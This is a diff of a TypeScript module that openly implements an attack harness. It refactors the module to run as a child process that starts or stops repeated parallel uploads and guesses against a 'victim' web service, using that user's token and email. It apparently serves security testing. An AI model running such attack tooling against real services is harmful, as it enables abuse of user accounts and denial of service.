@@ -1,6 +1,7 @@
 import { once } from 'node:events'
 import { connect, type Socket } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
+import { serve } from './client-process.ts'
 
 export type Victim = { url: string; token: string; email: string; picture: Uint8Array }
 
@@ -11,8 +12,14 @@ const guesses = 10
 // Until everything that the attack has started is done.
 const settling = 1500
 
+let stop = async () => {}
+serve(async (told) => {
+  if (told === 'stop') await stop()
+  else stop = await attack(told as Victim)
+})
+
 /** Attacks at once; the result ends it. */
-export async function attack(victim: Victim): Promise<() => Promise<void>> {
+async function attack(victim: Victim): Promise<() => Promise<void>> {
   const stop = new AbortController()
   const all = [
     ...Array.from({ length: uploads }, () => repeat(stop.signal, () => upload(victim, stop.signal))),
